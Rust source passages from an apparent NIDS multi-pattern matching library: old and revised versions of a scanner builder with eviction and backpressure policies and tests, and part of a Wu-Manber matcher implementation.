    /// Panics if `ring_capacity` is zero.
    pub fn ring_capacity(mut self, ring_capacity: usize) -> Self {
        assert!(ring_capacity > 0, "ring capacity must be at least 1");
        self.ring_capacity = ring_capacity;
        self
    }

    /// Caps resident flows at `max_flows` — sugar for the corresponding
    /// [`ScannerBuilder::eviction`] field, kept as its own axis because it
    /// is by far the most common policy.
    ///
    /// # Panics
    /// Panics if `max_flows` is zero.
    pub fn max_flows(mut self, max_flows: usize) -> Self {
        assert!(max_flows > 0, "max_flows must be at least 1");
        self.eviction.max_flows = Some(max_flows);
        self
    }

    /// Sets the whole eviction policy (cap and/or idle timeout) at once.
    ///
    /// # Panics
    /// Panics if the policy's `max_flows` is `Some(0)`.
    pub fn eviction(mut self, policy: EvictionPolicy) -> Self {
        assert!(policy.max_flows != Some(0), "max_flows must be at least 1");
        self.eviction = policy;
        self
    }

    /// Builds the continuously-running [`PipelineScanner`] — bounded SPSC
    /// rings, flow-affine dispatch without a per-batch barrier,
    /// backpressure, hybrid eviction, hot-swap, latency telemetry.
    ///
    /// # Panics
    /// Panics if no source was set.
    pub fn build(self) -> PipelineScanner {
        let ScannerBuilder {
            source,
            workers,
            ring_capacity,
            eviction,
        } = self;
        PipelineScanner::spawn(
            take_mode(source),
            workers,
            ring_capacity,
            eviction.max_flows,
            eviction.idle_after,
        )
    }

    /// Builds the batch-and-join [`crate::ShardedScanner`] — every
    /// `scan_batch` is a full barrier; results arrive as one deterministic
    /// unit. The differential-testing and batch-benchmark shape.
    ///
    /// # Panics
    /// Panics if no source was set, or the policy has an idle timeout (the
    /// barrier scanner has no clock; use [`ScannerBuilder::build`]).
    pub fn build_barrier(self) -> ShardedScanner {
        assert!(
            self.eviction.idle_after.is_none(),
            "idle_after eviction needs the pipeline scanner (ScannerBuilder::build)"
        );
        ShardedScanner::spawn(
            take_mode(self.source),
            self.workers,
            self.eviction.max_flows,
        )
    }

    fn set_source(&mut self, mode: WorkerMode) {
        assert!(
            matches!(self.source, Source::Unset),
            "scan source already set: call exactly one of engine()/rules()/groups()"
        );
        self.source = Source::Mode(mode);
    }
}

fn take_mode(source: Source) -> WorkerMode {
    match source {
        Source::Mode(mode) => mode,
        Source::Unset => {
            panic!("no scan source: call one of engine()/rules()/groups() before building")
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use mpm_patterns::NaiveMatcher;

    fn set_and_engine() -> (PatternSet, SharedMatcher) {
        let set = PatternSet::from_literals(&["needle"]);
        let engine: SharedMatcher = Arc::from(NaiveMatcher::new(&set));
        (set, engine)
    }

    #[test]
    #[should_panic(expected = "no scan source")]
    fn building_without_a_source_is_rejected() {
        let _ = ScannerBuilder::new().workers(2).build();
    }

    #[test]
    #[should_panic(expected = "scan source already set")]
    fn double_source_is_rejected() {
        let (set, engine) = set_and_engine();
        let _ = ScannerBuilder::new()
            .engine(engine.clone(), &set)
            .engine(engine, &set);
    }

    #[test]
    #[should_panic(expected = "at least one worker")]
    fn zero_workers_rejected() {
        let _ = ScannerBuilder::new().workers(0);
    }

    #[test]
    #[should_panic(expected = "max_flows must be at least 1")]
    fn zero_max_flows_rejected() {
        let _ = ScannerBuilder::new().max_flows(0);
    }

    #[test]
    #[should_panic(expected = "idle_after eviction needs the pipeline")]
    fn barrier_with_idle_timeout_is_rejected() {
        let (set, engine) = set_and_engine();
        let _ = ScannerBuilder::new()
            .engine(engine, &set)
            .eviction(EvictionPolicy::idle_after(Duration::from_secs(1)))
            .build_barrier();
    }

    #[test]
    fn eviction_policy_composes() {
        let policy = EvictionPolicy::max_flows(64).and_idle_after(Duration::from_secs(30));
        assert_eq!(policy.max_flows, Some(64));
        assert_eq!(policy.idle_after, Some(Duration::from_secs(30)));
        assert_eq!(EvictionPolicy::none(), EvictionPolicy::default());
    }
}
