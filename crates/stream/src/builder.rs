//! [`ScannerBuilder`]: one entry point for every multi-core scanner
//! configuration.
//!
//! PRs 3–7 accreted a six-way constructor matrix on
//! [`crate::ShardedScanner`] (`new` / `with_rules` / `with_groups`, each
//! crossed with `*_max_flows`); every new knob doubled it. The builder
//! collapses the matrix into orthogonal axes — *what to scan with*
//! ([`ScannerBuilder::engine`] / [`ScannerBuilder::rules`] /
//! [`ScannerBuilder::groups`]), *how wide* ([`ScannerBuilder::workers`],
//! [`ScannerBuilder::ring_capacity`]), *how long flows live*
//! ([`ScannerBuilder::max_flows`], [`ScannerBuilder::eviction`]), and *how
//! overload and memory pressure are handled*
//! ([`ScannerBuilder::backpressure`], [`ScannerBuilder::max_flow_buffer`])
//! — and offers two terminal shapes: [`ScannerBuilder::build`] for the
//! continuously-running [`PipelineScanner`] (the production runtime) and
//! [`ScannerBuilder::build_barrier`] for the batch-and-join
//! [`crate::ShardedScanner`] (differential oracles and batch benchmarks).
//! The pre-builder constructors lived on as `#[deprecated]` shims for one
//! release and were removed in PR 9; the builder is the only entry point.
//!
//! Configuration mistakes are reported as a typed [`BuildError`] from the
//! terminal methods, not mid-setter panics: setters store what they are
//! given, the build validates the combination. The two exceptions stay
//! panics deliberately, because they are caller bugs no match arm should
//! ever route around: setting two scan sources, and pairing an engine with
//! a pattern set it was not compiled for.

use crate::fault::FaultPlan;
use crate::group::GroupedEngineSet;
use crate::pipeline::{PipelineConfig, PipelineScanner};
use crate::shard::ShardedScanner;
use crate::stream::SharedMatcher;
use crate::worker::{plain_mode, rule_parts, WorkerMode};
use mpm_patterns::rule::RuleSet;
use mpm_patterns::PatternSet;
use std::sync::Arc;
use std::time::Duration;

/// When per-flow stream state is retired without an explicit
/// `close_flow`. Both knobs compose: a cap bounds worst-case memory, the
/// idle timeout retires quiet flows long before the cap forces them out —
/// the NIDS reassembly idiom of "table size limit + idle timer".
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct EvictionPolicy {
    /// Bound on resident flows across all workers (rounded up to a whole
    /// number per worker); at the bound, the least-recently-pushed flow on
    /// the receiving worker is evicted. `None` = unbounded.
    pub max_flows: Option<usize>,
    /// Retire a flow once no packet has arrived for it for this long,
    /// swept lazily on the owning worker. `None` = no idle timeout.
    /// Only the pipeline honours this ([`ScannerBuilder::build`]); the
    /// barrier scanner has no clock between batches.
    pub idle_after: Option<Duration>,
}

impl EvictionPolicy {
    /// Keep every flow until it is closed explicitly.
    pub fn none() -> Self {
        Self::default()
    }

    /// Cap resident flows at `max_flows` (least-recently-pushed eviction).
    pub fn max_flows(max_flows: usize) -> Self {
        EvictionPolicy {
            max_flows: Some(max_flows),
            idle_after: None,
        }
    }

    /// Retire flows idle for `idle_after` or longer.
    pub fn idle_after(idle_after: Duration) -> Self {
        EvictionPolicy {
            max_flows: None,
            idle_after: Some(idle_after),
        }
    }

    /// Adds an idle timeout to this policy (builder-style).
    pub fn and_idle_after(mut self, idle_after: Duration) -> Self {
        self.idle_after = Some(idle_after);
        self
    }
}

/// What [`PipelineScanner::dispatch`](crate::PipelineScanner::dispatch)
/// does when the target worker's job ring is full.
///
/// `Block` is the default and the only policy with the full determinism
/// contract (no packet is ever dropped, so the pipeline stays
/// byte-identical to the barrier oracle). `Shed` and `BlockTimeout` trade
/// completeness for bounded dispatch latency — the NIDS stance that under
/// overload a predictable drop beats stalling the capture loop. Shed
/// packets are counted per worker
/// ([`crate::PipelineStats::shed_packets`]), never silently lost.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum BackpressurePolicy {
    /// Wait for ring space, pumping the worker's output ring meanwhile
    /// (cannot deadlock). Lossless; the default.
    #[default]
    Block,
    /// Wait like [`BackpressurePolicy::Block`] for at most this long, then
    /// shed the packet.
    BlockTimeout(Duration),
    /// One push attempt; a full ring sheds the packet immediately.
    Shed,
}

/// A configuration rejected by [`ScannerBuilder::build`] /
/// [`ScannerBuilder::build_barrier`].
#[derive(Clone, Debug, PartialEq, Eq)]
#[non_exhaustive]
pub enum BuildError {
    /// No scan source: call one of `engine()`/`rules()`/`groups()` first.
    NoSource,
    /// `workers(0)`: at least one worker thread is required.
    ZeroWorkers,
    /// `ring_capacity(0)`: rings need at least one slot.
    ZeroRingCapacity,
    /// Ring capacities must be powers of two (the rings use masked
    /// indices; rounding silently would make the backpressure point differ
    /// from the configured one).
    RingCapacityNotPowerOfTwo {
        /// The rejected capacity.
        requested: usize,
    },
    /// `max_flows` of zero: a scanner that can hold no flow scans nothing.
    ZeroMaxFlows,
    /// `max_flow_buffer(0)`: a zero-byte buffer would degrade every rule
    /// flow on its first payload byte.
    ZeroMaxFlowBuffer,
    /// `idle_after` eviction needs a clock between batches, which only the
    /// pipeline has; use [`ScannerBuilder::build`].
    IdleEvictionUnsupported,
    /// Non-default backpressure needs bounded rings, which only the
    /// pipeline has; the barrier scanner's intake is an unbounded channel.
    BackpressureUnsupported,
}

impl std::fmt::Display for BuildError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            BuildError::NoSource => {
                f.write_str("no scan source: call one of engine()/rules()/groups() before building")
            }
            BuildError::ZeroWorkers => f.write_str("need at least one worker"),
            BuildError::ZeroRingCapacity => f.write_str("ring capacity must be at least 1"),
            BuildError::RingCapacityNotPowerOfTwo { requested } => {
                write!(f, "ring capacity must be a power of two, got {requested}")
            }
            BuildError::ZeroMaxFlows => f.write_str("max_flows must be at least 1"),
            BuildError::ZeroMaxFlowBuffer => f.write_str("max_flow_buffer must be at least 1"),
            BuildError::IdleEvictionUnsupported => f.write_str(
                "idle_after eviction needs the pipeline scanner (ScannerBuilder::build)",
            ),
            BuildError::BackpressureUnsupported => f.write_str(
                "non-Block backpressure needs the pipeline scanner (ScannerBuilder::build)",
            ),
        }
    }
}

impl std::error::Error for BuildError {}

/// What the scanner scans with — set exactly once, by
/// [`ScannerBuilder::engine`], [`ScannerBuilder::rules`] or
/// [`ScannerBuilder::groups`].
enum Source {
    Unset,
    Mode(WorkerMode),
}

/// Builder for both multi-core scanners; see the module docs.
///
/// ```
/// use mpm_patterns::{NaiveMatcher, PatternSet};
/// use mpm_stream::{Packet, ScannerBuilder};
/// use std::sync::Arc;
///
/// let set = PatternSet::from_literals(&["needle"]);
/// let engine: mpm_stream::SharedMatcher = Arc::from(NaiveMatcher::new(&set));
/// let mut pipeline = ScannerBuilder::new()
///     .engine(engine, &set)
///     .workers(4)
///     .max_flows(100_000)
///     .build()
///     .expect("valid configuration");
/// pipeline.dispatch(Packet::new(1, b"..needle..".to_vec()));
/// assert_eq!(pipeline.drain().expect("workers alive").matches.len(), 1);
/// ```
pub struct ScannerBuilder {
    source: Source,
    workers: usize,
    ring_capacity: usize,
    eviction: EvictionPolicy,
    backpressure: BackpressurePolicy,
    max_flow_buffer: Option<usize>,
    plan: Option<Arc<FaultPlan>>,
}

impl Default for ScannerBuilder {
    fn default() -> Self {
        Self::new()
    }
}

impl ScannerBuilder {
    /// Starts a builder with defaults: 1 worker, 1024-slot job rings, no
    /// eviction, blocking backpressure, unbounded rule buffers.
    pub fn new() -> Self {
        ScannerBuilder {
            source: Source::Unset,
            workers: 1,
            ring_capacity: 1024,
            eviction: EvictionPolicy::none(),
            backpressure: BackpressurePolicy::Block,
            max_flow_buffer: None,
            plan: None,
        }
    }

    /// Scan every flow with one pattern engine (pattern matches only, no
    /// rule confirmation). `set` must be the pattern set `engine` was
    /// compiled for.
    ///
    /// # Panics
    /// Panics if a source was already set, or the engine/set disagree about
    /// the longest pattern.
    pub fn engine(mut self, engine: SharedMatcher, set: &PatternSet) -> Self {
        self.set_source(plain_mode(engine, set, None));
        self
    }

    /// Scan every flow in monolithic **rule mode**: `engine` (compiled for
    /// `set.anchors()`) finds anchors, and rules are confirmed per flow
    /// with positional constraints across packet boundaries.
    ///
    /// # Panics
    /// Panics if a source was already set, or the engine/anchor-set
    /// disagree about the longest pattern.
    pub fn rules(mut self, engine: SharedMatcher, set: &RuleSet) -> Self {
        self.set_source(plain_mode(engine, set.anchors(), Some(rule_parts(set))));
        self
    }

    /// Scan flows in **port-grouped rule mode**: each flow is scanned only
    /// against the groups its [`crate::Packet::tuple`] selects.
    ///
    /// # Panics
    /// Panics if a source was already set.
    pub fn groups(mut self, engines: Arc<GroupedEngineSet>) -> Self {
        self.set_source(WorkerMode::Grouped(engines));
        self
    }

    /// Number of worker threads (default 1). Zero is rejected at build
    /// time ([`BuildError::ZeroWorkers`]).
    pub fn workers(mut self, workers: usize) -> Self {
        self.workers = workers;
        self
    }

    /// Per-worker job-ring capacity in packets (default 1024; must be a
    /// power of two, checked at build time). Smaller rings bound latency
    /// and memory tighter but engage backpressure sooner. Only the
    /// pipeline uses rings; the barrier scanner ignores this.
    pub fn ring_capacity(mut self, ring_capacity: usize) -> Self {
        self.ring_capacity = ring_capacity;
        self
    }

    /// Caps resident flows at `max_flows` — sugar for the corresponding
    /// [`ScannerBuilder::eviction`] field, kept as its own axis because it
    /// is by far the most common policy. Zero is rejected at build time
    /// ([`BuildError::ZeroMaxFlows`]).
    pub fn max_flows(mut self, max_flows: usize) -> Self {
        self.eviction.max_flows = Some(max_flows);
        self
    }

    /// Sets the whole eviction policy (cap and/or idle timeout) at once.
    pub fn eviction(mut self, policy: EvictionPolicy) -> Self {
        self.eviction = policy;
        self
    }

    /// What a full job ring means for
    /// [`PipelineScanner::dispatch`](crate::PipelineScanner::dispatch) —
    /// see [`BackpressurePolicy`]. The default, `Block`, is the only
    /// policy accepted by [`ScannerBuilder::build_barrier`].
    pub fn backpressure(mut self, policy: BackpressurePolicy) -> Self {
        self.backpressure = policy;
        self
    }

    /// Caps the rule-confirmation payload buffer of each flow at `bytes`
    /// (per selected group in grouped mode). Flows that exceed the cap
    /// degrade to anchor-only reporting — see
    /// [`crate::RuleStreamScanner::with_max_buffer`] for the exact
    /// contract, and [`crate::PipelineStats::degraded_flows`] /
    /// [`crate::PipelineStats::truncated_bytes`] for the observability.
    /// Zero is rejected at build time ([`BuildError::ZeroMaxFlowBuffer`]).
    pub fn max_flow_buffer(mut self, bytes: usize) -> Self {
        self.max_flow_buffer = Some(bytes);
        self
    }

    /// Attaches a deterministic fault-injection plan (test harnesses
    /// only; see [`crate::fault`]). Without the `fault-inject` cargo
    /// feature the plan is an inert unit type and this is a no-op.
    pub fn fault_plan(mut self, plan: Arc<FaultPlan>) -> Self {
        self.plan = Some(plan);
        self
    }

    /// Validates the knobs shared by both terminal shapes.
    fn validate(&self) -> Result<(), BuildError> {
        if matches!(self.source, Source::Unset) {
            return Err(BuildError::NoSource);
        }
        if self.workers == 0 {
            return Err(BuildError::ZeroWorkers);
        }
        if self.ring_capacity == 0 {
            return Err(BuildError::ZeroRingCapacity);
        }
        if !self.ring_capacity.is_power_of_two() {
            return Err(BuildError::RingCapacityNotPowerOfTwo {
                requested: self.ring_capacity,
            });
        }
        if self.eviction.max_flows == Some(0) {
            return Err(BuildError::ZeroMaxFlows);
        }
        if self.max_flow_buffer == Some(0) {
            return Err(BuildError::ZeroMaxFlowBuffer);
        }
        Ok(())
    }

    /// Builds the continuously-running [`PipelineScanner`] — bounded SPSC
    /// rings, flow-affine dispatch without a per-batch barrier,
    /// backpressure policies, hybrid eviction, bounded rule buffers,
    /// worker supervision, hot-swap, latency telemetry.
    ///
    /// # Errors
    /// A [`BuildError`] describing the first invalid knob.
    pub fn build(self) -> Result<PipelineScanner, BuildError> {
        self.validate()?;
        let plan = self.resolve_plan();
        let ScannerBuilder {
            source,
            workers,
            ring_capacity,
            eviction,
            backpressure,
            max_flow_buffer,
            ..
        } = self;
        Ok(PipelineScanner::spawn(PipelineConfig {
            mode: take_mode(source),
            workers,
            ring_capacity,
            max_flows: eviction.max_flows,
            idle_after: eviction.idle_after,
            backpressure,
            max_flow_buffer,
            plan,
        }))
    }

    /// Builds the batch-and-join [`crate::ShardedScanner`] — every
    /// `scan_batch` is a full barrier; results arrive as one deterministic
    /// unit. The differential-testing and batch-benchmark shape.
    ///
    /// # Errors
    /// A [`BuildError`] describing the first invalid knob; additionally
    /// rejects pipeline-only knobs ([`BuildError::IdleEvictionUnsupported`],
    /// [`BuildError::BackpressureUnsupported`]).
    pub fn build_barrier(self) -> Result<ShardedScanner, BuildError> {
        self.validate()?;
        if self.eviction.idle_after.is_some() {
            return Err(BuildError::IdleEvictionUnsupported);
        }
        if self.backpressure != BackpressurePolicy::Block {
            return Err(BuildError::BackpressureUnsupported);
        }
        Ok(ShardedScanner::spawn(
            take_mode(self.source),
            self.workers,
            self.eviction.max_flows,
            self.max_flow_buffer,
        ))
    }

    /// The fault plan to run with: explicit > environment > inert. The
    /// environment hook (`MPM_FAULT_PLAN`) only exists under the
    /// `fault-inject` feature; see [`crate::fault`].
    fn resolve_plan(&self) -> Arc<FaultPlan> {
        if let Some(plan) = &self.plan {
            return plan.clone();
        }
        match FaultPlan::from_env() {
            Some(plan) => Arc::new(plan),
            None => Arc::new(FaultPlan::new()),
        }
    }

    fn set_source(&mut self, mode: WorkerMode) {
        assert!(
            matches!(self.source, Source::Unset),
            "scan source already set: call exactly one of engine()/rules()/groups()"
        );
        self.source = Source::Mode(mode);
    }
}

fn take_mode(source: Source) -> WorkerMode {
    match source {
        Source::Mode(mode) => mode,
        // Unreachable after validate(), but keep the message for anyone
        // who re-plumbs build paths.
        Source::Unset => {
            panic!("no scan source: call one of engine()/rules()/groups() before building")
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use mpm_patterns::NaiveMatcher;

    fn set_and_engine() -> (PatternSet, SharedMatcher) {
        let set = PatternSet::from_literals(&["needle"]);
        let engine: SharedMatcher = Arc::from(NaiveMatcher::new(&set));
        (set, engine)
    }

    #[test]
    fn building_without_a_source_is_rejected() {
        let err = ScannerBuilder::new().workers(2).build().err();
        assert_eq!(err, Some(BuildError::NoSource));
    }

    #[test]
    #[should_panic(expected = "scan source already set")]
    fn double_source_is_rejected() {
        let (set, engine) = set_and_engine();
        let _ = ScannerBuilder::new()
            .engine(engine.clone(), &set)
            .engine(engine, &set);
    }

    #[test]
    fn zero_workers_rejected_at_build() {
        let (set, engine) = set_and_engine();
        let err = ScannerBuilder::new()
            .engine(engine, &set)
            .workers(0)
            .build()
            .err();
        assert_eq!(err, Some(BuildError::ZeroWorkers));
    }

    #[test]
    fn zero_max_flows_rejected_at_build() {
        let (set, engine) = set_and_engine();
        let err = ScannerBuilder::new()
            .engine(engine, &set)
            .max_flows(0)
            .build()
            .err();
        assert_eq!(err, Some(BuildError::ZeroMaxFlows));
    }

    #[test]
    fn ring_capacity_must_be_a_nonzero_power_of_two() {
        let (set, engine) = set_and_engine();
        let err = ScannerBuilder::new()
            .engine(engine.clone(), &set)
            .ring_capacity(0)
            .build()
            .err();
        assert_eq!(err, Some(BuildError::ZeroRingCapacity));
        let err = ScannerBuilder::new()
            .engine(engine, &set)
            .ring_capacity(24)
            .build()
            .err();
        assert_eq!(
            err,
            Some(BuildError::RingCapacityNotPowerOfTwo { requested: 24 })
        );
    }

    #[test]
    fn zero_max_flow_buffer_rejected_at_build() {
        let (set, engine) = set_and_engine();
        let err = ScannerBuilder::new()
            .engine(engine, &set)
            .max_flow_buffer(0)
            .build()
            .err();
        assert_eq!(err, Some(BuildError::ZeroMaxFlowBuffer));
    }

    #[test]
    fn barrier_with_idle_timeout_is_rejected() {
        let (set, engine) = set_and_engine();
        let err = ScannerBuilder::new()
            .engine(engine, &set)
            .eviction(EvictionPolicy::idle_after(Duration::from_secs(1)))
            .build_barrier()
            .err();
        assert_eq!(err, Some(BuildError::IdleEvictionUnsupported));
    }

    #[test]
    fn barrier_with_non_default_backpressure_is_rejected() {
        let (set, engine) = set_and_engine();
        let err = ScannerBuilder::new()
            .engine(engine, &set)
            .backpressure(BackpressurePolicy::Shed)
            .build_barrier()
            .err();
        assert_eq!(err, Some(BuildError::BackpressureUnsupported));
    }

    #[test]
    fn build_errors_render_their_cause() {
        assert!(BuildError::NoSource.to_string().contains("no scan source"));
        assert!(BuildError::RingCapacityNotPowerOfTwo { requested: 24 }
            .to_string()
            .contains("24"));
    }

    #[test]
    fn eviction_policy_composes() {
        let policy = EvictionPolicy::max_flows(64).and_idle_after(Duration::from_secs(30));
        assert_eq!(policy.max_flows, Some(64));
        assert_eq!(policy.idle_after, Some(Duration::from_secs(30)));
        assert_eq!(EvictionPolicy::none(), EvictionPolicy::default());
    }

    #[test]
    fn backpressure_defaults_to_block() {
        assert_eq!(BackpressurePolicy::default(), BackpressurePolicy::Block);
    }
}
