//! Wu-Manber multi-pattern matcher.
//!
//! The paper's related-work section (§VI-A) discusses Wu-Manber as the main
//! alternative family to Aho-Corasick: a Boyer-Moore-style algorithm that
//! uses a table of safe *shift* distances over blocks of `B = 2` characters
//! to skip input bytes entirely, falling back to a hash bucket of candidate
//! patterns when no skip is possible. Its well-known weakness — and the
//! reason the paper dismisses it for NIDS rulesets — is that the minimum
//! pattern length bounds every shift, so short patterns destroy its
//! advantage. This crate provides a from-scratch implementation so that the
//! claim can be measured rather than cited (see the `short_patterns_ruin_
//! shift_distances` test and the Criterion comparison in `mpm-bench`).
//!
//! The implementation follows the original technical report (Wu & Manber,
//! TR-94-17): SHIFT table indexed by the last `B` bytes of the current
//! `m`-byte window (`m` = shortest pattern length), HASH buckets of patterns
//! for windows whose shift is zero, exact verification against the full
//! pattern. Patterns shorter than `B` (single bytes) cannot participate in
//! the shift machinery at all and are handled by a dedicated scan — the
//! degenerate behaviour the paper alludes to.
//!
//! Case-insensitive (`nocase`) patterns follow the workspace's
//! filter-folded / verify-exact contract — the design the Wu-Manber hardware
//! line (Aldwairi et al.) also adopts for NIDS rulesets: when the set
//! contains any `nocase` pattern, the SHIFT and HASH tables are built over
//! ASCII-case-folded pattern bytes and the scan folds the input block values
//! to match (folding can only shrink shift distances, never skip a true
//! occurrence), while per-pattern verification compares byte-exactly or
//! case-insensitively as each pattern demands. Single-byte `nocase`
//! patterns are simply registered under both case variants of their byte,
//! which is already exact. Case-sensitive-only sets build and scan exactly
//! as before.

#![warn(missing_docs)]

pub(crate) mod graph;

use mpm_graph::{with_cached_scratchpad, GraphConfig, ScanGraph};
use mpm_patterns::{fold_byte, MatchEvent, Matcher, PatternId, PatternSet};
use mpm_simd::{
    prefetch_read, Avx2Backend, Avx512Backend, BackendKind, ScalarBackend, VectorBackend,
};
use std::sync::Arc;

/// Block size used for the shift table (the classic choice).
const B: usize = 2;

/// Number of entries in the SHIFT/HASH tables (one per 2-byte block value).
const TABLE_SIZE: usize = 1 << 16;

/// Zero-shift candidates buffered before a batched verification drain: the
/// candidate-window loop no longer verifies each window the moment its shift
/// hits zero, it buffers `(start, block value)` pairs and drains them with
/// the bucket storage prefetched ahead and the per-pattern compares running
/// through the SIMD window comparison (`VectorBackend::eq_window`).
const WM_BATCH: usize = 64;

/// Prefetch distance inside the drain: the id storage of candidate `i + K`
/// is requested while candidate `i`'s patterns are compared.
const WM_PREFETCH: usize = 4;

/// The compiled Wu-Manber state — everything the scan needs, shared by
/// the engine facade and the scan-graph operators through an [`Arc`].
#[derive(Clone, Debug)]
pub(crate) struct WmCore {
    pub(crate) set: PatternSet,
    /// Shortest pattern length among the patterns handled by the shift
    /// machinery (length ≥ 2). Zero when there are none.
    pub(crate) m: usize,
    /// Safe shift distance per 2-byte block value.
    pub(crate) shift: Vec<u16>,
    /// Candidate pattern ids per 2-byte block value (only populated where
    /// `shift == 0`).
    pub(crate) buckets: Vec<Vec<PatternId>>,
    /// Single-byte patterns, handled by a dedicated pass: `one_byte[b]`
    /// lists the ids of patterns matching byte `b` (a `nocase` letter is
    /// registered under both of its case variants).
    pub(crate) one_byte: Vec<Vec<PatternId>>,
    pub(crate) has_one_byte: bool,
    /// True if the SHIFT/HASH tables were built over ASCII-case-folded
    /// pattern bytes (the set contains a `nocase` pattern); the scan folds
    /// input block values to match.
    pub(crate) folded: bool,
}

/// Wu-Manber matcher.
///
/// Since PR 9 the scan path is a graph assembly (`graph` module): the
/// single-byte pass, the shift walk and the candidate drain are separate
/// operators scheduled by [`ScanGraph`]. The historical interleaved scan
/// is retained as [`WuManber::find_into_legacy`], the differential oracle
/// the graph path is tested against.
#[derive(Clone, Debug)]
pub struct WuManber {
    core: Arc<WmCore>,
    /// SIMD backend the candidate drain's window compares dispatch to,
    /// resolved once at build time (`MPM_FORCE_BACKEND` pins it, exactly as
    /// for the filtering engines) so the per-scan path allocates nothing.
    backend: BackendKind,
    graph: ScanGraph,
}

#[inline]
fn block_value(a: u8, b: u8) -> usize {
    u16::from_le_bytes([a, b]) as usize
}

impl WmCore {
    /// Compiles the shared scan state for `set`.
    fn build(set: &PatternSet) -> Self {
        let folded = set.has_nocase();
        let fold = |b: u8| fold_byte(b, folded);
        let mut one_byte = vec![Vec::new(); 256];
        let mut has_one_byte = false;
        let mut shift_patterns: Vec<(PatternId, &mpm_patterns::Pattern)> = Vec::new();
        for (id, p) in set.iter() {
            if p.len() < B {
                let b0 = p.bytes()[0];
                one_byte[b0 as usize].push(id);
                if p.is_nocase() && b0.is_ascii_alphabetic() {
                    // Registering both case variants makes the single-byte
                    // pass exact with no verification step.
                    one_byte[(b0 ^ 0x20) as usize].push(id);
                }
                has_one_byte = true;
            } else {
                shift_patterns.push((id, p));
            }
        }

        let m = shift_patterns
            .iter()
            .map(|(_, p)| p.len())
            .min()
            .unwrap_or(0);
        let mut shift = vec![0u16; TABLE_SIZE];
        let mut buckets = vec![Vec::new(); TABLE_SIZE];
        if m >= B {
            // Default shift: the whole window minus one block.
            let default = (m - B + 1) as u16;
            shift.iter_mut().for_each(|s| *s = default);
            for (id, p) in &shift_patterns {
                let bytes = p.bytes();
                // Every block ending at position j (0-based, within the first
                // m bytes) constrains the shift for that block value.
                for j in (B - 1)..m {
                    let value = block_value(fold(bytes[j - 1]), fold(bytes[j]));
                    let safe = (m - 1 - j) as u16;
                    if safe < shift[value] {
                        shift[value] = safe;
                    }
                }
                // Blocks with shift 0 (the block ending the window) get the
                // pattern added to their candidate bucket.
                let value = block_value(fold(bytes[m - 2]), fold(bytes[m - 1]));
                buckets[value].push(*id);
            }
        }

        WmCore {
            set: set.clone(),
            m,
            shift,
            buckets,
            one_byte,
            has_one_byte,
            folded,
        }
    }

    /// Emits the single-byte matches whose position lies in `start..end`
    /// (this pass is exact, so its events need no verification round).
    pub(crate) fn scan_one_byte_range(
        &self,
        haystack: &[u8],
        start: usize,
        end: usize,
        out: &mut Vec<MatchEvent>,
    ) {
        for (i, &b) in haystack[start..end].iter().enumerate() {
            for &id in &self.one_byte[b as usize] {
                out.push(MatchEvent::new(start + i, id));
            }
        }
    }

    /// The shift-table walk over window-end positions in `start..end`,
    /// buffering the zero-shift candidate windows as `(window start, block
    /// value)` pairs instead of verifying them inline. The walk restarts at
    /// each range boundary, which can examine a position a continuous walk
    /// would have skipped over — harmless, because the shift invariant
    /// guarantees no true match ends at a skipped position, so any extra
    /// candidate is rejected by verification.
    pub(crate) fn shift_walk_range<const FOLD: bool>(
        &self,
        haystack: &[u8],
        start: usize,
        end: usize,
        starts: &mut Vec<u32>,
        values: &mut Vec<u32>,
    ) {
        let m = self.m;
        if m < B || haystack.len() < m {
            return;
        }
        // `pos` is the index of the last byte of the current m-byte window;
        // the window itself may begin before `start` (in the previous
        // chunk), which is fine — ops always see the full haystack.
        let mut pos = start.max(m - 1);
        while pos < end {
            let value = block_value(
                fold_byte(haystack[pos - 1], FOLD),
                fold_byte(haystack[pos], FOLD),
            );
            let shift = self.shift[value] as usize;
            if shift > 0 {
                pos += shift;
                continue;
            }
            // Request the bucket header now, so the pattern-id list is
            // resident by the time the drain walks it.
            prefetch_read(&self.buckets[value]);
            starts.push((pos + 1 - m) as u32);
            values.push(value as u32);
            pos += 1;
        }
    }

    /// Verifies a buffered block of zero-shift candidates: every pattern in
    /// each candidate's bucket is compared against the text at the window
    /// start under its own case rule, via the backend's vector window
    /// comparison. The id storage of candidate `i + K` is prefetched while
    /// candidate `i` is verified.
    pub(crate) fn drain_candidates<S: VectorBackend<W>, const W: usize, const FOLD: bool>(
        &self,
        haystack: &[u8],
        starts: &[u32],
        values: &[u32],
        out: &mut Vec<MatchEvent>,
    ) {
        let n = haystack.len();
        S::dispatch(|| {
            for i in 0..starts.len() {
                if i + WM_PREFETCH < starts.len() {
                    prefetch_read(self.buckets[values[i + WM_PREFETCH] as usize].as_ptr());
                }
                let start = starts[i] as usize;
                for &id in &self.buckets[values[i] as usize] {
                    let pattern = self.set.get(id);
                    let end = start + pattern.len();
                    if end > n {
                        continue;
                    }
                    let window = &haystack[start..end];
                    // `FOLD = false` sets hold no `nocase` patterns, so the
                    // case branch vanishes from the monomorphized kernel.
                    let hit = if FOLD && pattern.is_nocase() {
                        S::eq_window_nocase(window, pattern.bytes())
                    } else {
                        S::eq_window(window, pattern.bytes())
                    };
                    if hit {
                        out.push(MatchEvent::new(start, id));
                    }
                }
            }
        });
    }
}

impl WuManber {
    /// Compiles the matcher for `set`.
    pub fn build(set: &PatternSet) -> Self {
        let core = Arc::new(WmCore::build(set));
        let backend = mpm_simd::detect_best();
        let graph = match backend {
            BackendKind::Scalar => graph::build_wm_graph::<ScalarBackend, 8>(&core),
            BackendKind::Avx2 => graph::build_wm_graph::<Avx2Backend, 8>(&core),
            BackendKind::Avx512 => graph::build_wm_graph::<Avx512Backend, 16>(&core),
        };
        WuManber {
            core,
            backend,
            graph,
        }
    }

    /// True if the tables were built over ASCII-case-folded bytes (the set
    /// contains a `nocase` pattern).
    pub fn is_folded(&self) -> bool {
        self.core.folded
    }

    /// Shortest shift-eligible pattern length (`0` if all patterns are
    /// single bytes). The average shift — and therefore the throughput — is
    /// bounded by this value, which is the paper's argument against
    /// Wu-Manber for rulesets with short patterns.
    pub fn window_len(&self) -> usize {
        self.core.m
    }

    /// Average shift value over the whole table (diagnostic; large is good).
